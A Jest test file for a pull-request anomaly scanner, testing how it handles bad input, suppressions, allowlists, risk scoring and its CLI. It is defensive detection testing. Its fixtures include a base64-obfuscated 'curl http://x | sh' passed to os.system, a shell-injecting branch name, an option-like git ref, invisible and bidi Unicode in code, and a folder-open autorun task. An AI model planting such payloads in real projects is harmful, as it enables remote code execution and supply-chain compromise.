// The engine on real git repositories: bad input, suppressions, the
// allowlist, the risk score, and the CLI command.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { main } from '../../packages/cli/src/main';
import { type ScanOptions, scanPr } from '../../actions/pr-anomaly-scan/src/engine';
import { parseSection } from '../../actions/pr-anomaly-scan/src/main';
import { riskScore } from '../../actions/pr-anomaly-scan/src/score';
import { unquotePath } from '../../actions/pr-anomaly-scan/src/git';
import { type Files, buildRepo } from './corpus/build';
import { noise } from './corpus/cases';

const scan = async (base: Files, head: Files, extra: Partial<ScanOptions> = {}) => {
  const r = buildRepo(base, head);
  try {
    return await scanPr({
      repo: r.dir,
      base: r.base,
      head: r.head,
      meta: {},
      trustedOrgs: [],
      allow: [],
      configPath: '.github/security-actions.yml',
      today: '2026-06-01',
      ...extra
    });
  } finally {
    r.cleanup();
  }
};
const ids = (res: Awaited<ReturnType<typeof scanPr>>) =>
  res.findings.filter((f) => !f.suppression).map((f) => f.ruleId);

describe('bad input', () => {
  it('a directory that is not a git checkout: one line, diff checks not checked, metadata still checked', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'not-git-'));
    try {
      const res = await scanPr({
        repo: dir,
        base: 'main',
        head: 'HEAD',
        meta: { headRef: 'a;b' },
        trustedOrgs: [],
        allow: [],
        configPath: 'c',
        today: '2026-06-01'
      });
      expect(res.errors).toHaveLength(1);
      expect(res.errors![0]).toMatch(/is not a git checkout/);
      expect(res.notChecked.map((n) => n.check)).toContain('binary');
      expect(ids(res)).toContain('meta/branch-name-shell');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a shallow clone without the base says so', async () => {
    const r = buildRepo({ 'a.txt': 'a\n' }, { 'a.txt': 'b\n' });
    const clone = mkdtempSync(join(tmpdir(), 'shallow-'));
    try {
      execFileSync('git', ['clone', '-q', '--depth', '1', '--branch', 'pr', `file://${r.dir}`, clone]);
      const res = await scanPr({
        repo: clone,
        base: r.base,
        head: 'HEAD',
        meta: {},
        trustedOrgs: [],
        allow: [],
        configPath: 'c',
        today: '2026-06-01'
      });
      expect(res.errors![0]).toMatch(/not in the checkout \(shallow clone: check out with fetch-depth: 0\)/);
    } finally {
      r.cleanup();
      rmSync(clone, { recursive: true, force: true });
    }
  });

  it('rejects option-like refs instead of passing them to git', async () => {
    const res = await scan({}, { 'a.txt': 'x\n' }, { base: '--output=/tmp/x' });
    expect(res.errors![0]).toMatch(/is not a commit reference/);
  });

  it('non-UTF-8 text, malformed YAML and a malformed requirements file: one line each, the rest still scanned', async () => {
    const res = await scan(
      {},
      {
        'latin1.py': Buffer.from('# caf\xe9\nx = 1\n', 'latin1'),
        '.github/workflows/bad.yml': 'on: [push\njobs: {}\n',
        'requirements.txt': 'numpy\n--no-such-option\n',
        'src/evil.py': 'def ad\u200bmin(): pass\n'
      }
    );
    expect(res.errors).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^\.github\/workflows\/bad\.yml:\d+: invalid YAML/),
        expect.stringMatching(/^requirements\.txt:2: /)
      ])
    );
    expect(ids(res)).toContain('unicode/invisible-character');
    expect(ids(res)).not.toContain('unicode/homoglyph');
  });

  it('paths with spaces, quotes and non-ASCII names are read', async () => {
    expect(unquotePath('"caf\\303\\251 \\"x\\".py"')).toBe('café "x".py');
    const res = await scan({}, { 'docs/café "x".py': 'exec(\u202e)\n' });
    expect(res.findings.find((f) => f.ruleId === 'unicode/bidi-control')?.location?.file).toBe('docs/café "x".py');
  });

  it('a large binary is streamed: size and entropy measured, not held in memory', async () => {
    const big = noise(40 * 1024 * 1024, 3);
    const res = await scan({}, { 'tests/data/blob.bin': big, 'tests/test_blob.py': 'def test(): pass\n' });
    const f = res.findings.find((x) => x.ruleId === 'binary/compressed-test-data')!;
    expect(f.properties?.size).toBe(big.length);
    expect(f.properties?.entropy).toBeGreaterThan(7.9);
    expect(f.properties?.contentSha256).toBe(createHash('sha256').update(big).digest('hex'));
  });

  it('renames, deletions and mode changes', async () => {
    const res = await scan(
      { 'tools/run.sh': 'echo hi\n', 'old.py': 'x = 1\n', 'gone.txt': 'bye\n' },
      { 'tools/run.sh': 'echo hi\n', 'new.py': 'x = 1\n', 'old.py': null, 'gone.txt': null }
    );
    expect(res.errors).toEqual([]);
    expect(res.stats?.['files changed']).toBe(2);
  });
});

describe('suppressions', () => {
  const payload = Buffer.from(Array.from({ length: 180 }, (_, i) => i)).toString('base64');

  it('an inline ignore with a reason suppresses the finding on the next line and is itself reported', async () => {
    const res = await scan(
      {},
      {
        'src/m.py': `# pr-anomaly-scan: ignore[obfuscation/long-encoded-literal] test vector from RFC 4648\nV = "${payload}"\n`
      }
    );
    const f = res.findings.find((x) => x.ruleId === 'obfuscation/long-encoded-literal')!;
    expect(f.suppression).toEqual({ kind: 'inSource', reason: 'test vector from RFC 4648', source: 'src/m.py:1' });
    expect(ids(res)).toContain('meta/suppression-added');
  });

  it('an inline ignore without a reason is not applied', async () => {
    const res = await scan(
      {},
      { 'src/m.py': `V = "${payload}"  # pr-anomaly-scan: ignore[obfuscation/long-encoded-literal]\n` }
    );
    expect(ids(res)).toContain('obfuscation/long-encoded-literal');
    expect(res.notes!.join('\n')).toMatch(/without a reason is not applied/);
  });

  it('the content-hash allowlist suppresses a known fixture and stops when it expires', async () => {
    const blob = Buffer.concat([Buffer.from('\xfd7zXZ\x00', 'latin1'), noise(2000, 4)]);
    const sha256 = createHash('sha256').update(blob).digest('hex');
    const head = { 'tests/files/good.xz': blob, 'tests/test_x.py': 'def test(): pass\n' };
    const ok = await scan({}, head, { allow: [{ sha256, reason: 'generated by make_fixtures.py' }] });
    expect(ok.findings.find((f) => f.ruleId === 'binary/compressed-test-data')?.suppression?.reason).toBe(
      'generated by make_fixtures.py'
    );
    const expired = await scan({}, head, { allow: [{ sha256, reason: 'r', expires: '2026-01-01' }] });
    expect(ids(expired)).toContain('binary/compressed-test-data');
    expect(expired.notes!.join('\n')).toMatch(/expired on 2026-01-01/);
  });

  it('validates the config section', () => {
    expect(() => parseSection({ allow: [{ sha256: 'abc', reason: 'x' }] }, 'cfg.yml')).toThrow(
      'cfg.yml: pr-anomaly-scan.allow.0.sha256 must be 64 lower-case hex digits'
    );
    expect(() => parseSection({ allow: [{ sha256: 'a'.repeat(64) }] }, 'cfg.yml')).toThrow(/reason is required/);
    expect(() => parseSection({ ignore: [] }, 'cfg.yml')).toThrow(/unknown key 'ignore'/);
  });
});

describe('risk score', () => {
  it('one long literal in a notebook is weak; a payload that reaches a shell is strong', async () => {
    const png = Buffer.from('x'.repeat(400)).toString('base64');
    const weak = await scan(
      {},
      { 'nb.ipynb': JSON.stringify({ cells: [{ outputs: [{ data: { 'text/plain': png } }] }] }, null, 1) }
    );
    expect(ids(weak)).toEqual(['obfuscation/long-encoded-literal']);
    expect(weak.score.score).toBeLessThan(1);
    const strong = await scan(
      {},
      {
        'src/pkg/_x.py': `import base64, os\nos.system(base64.b64decode("${Buffer.from('curl http://x | sh; '.repeat(12)).toString('base64')}"))\n`
      }
    );
    expect(strong.score.score).toBeGreaterThanOrEqual(5);
    expect(strong.score.chains).toContain('obfuscated data reaches code execution');
  });

  it('caps many weak findings', () => {
    const weak = Array.from(
      { length: 50 },
      () => ({ ruleId: 'deps/new-dependency', severity: 'info', confidence: 'high' }) as never
    );
    expect(riskScore(weak).score).toBeLessThan(2);
  });
});

describe('sp-security pr-scan', () => {
  it('scans two commits of a checkout and reports the API checks as not checked', async () => {
    const r = buildRepo({}, { '.vscode/tasks.json': '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n' });
    try {
      let out = '';
      let err = '';
      const code = await main(['pr-scan', '--base', r.base, '--head', r.head, '--repo', r.dir], {
        out: (s) => (out += s),
        err: (s) => (err += `${s}\n`),
        env: { PATH: process.env.PATH },
        cwd: r.dir
      });
      expect(out).toMatch(/HIGH\s+meta\/ide-autorun\s+\.vscode\/tasks\.json:1/);
      expect(out).toMatch(/NOT CHECKED account-age: no token given/);
      expect(code).toBe(1);
      expect(err).toMatch(/at or above fail-on: high/);
    } finally {
      r.cleanup();
    }
  });
});
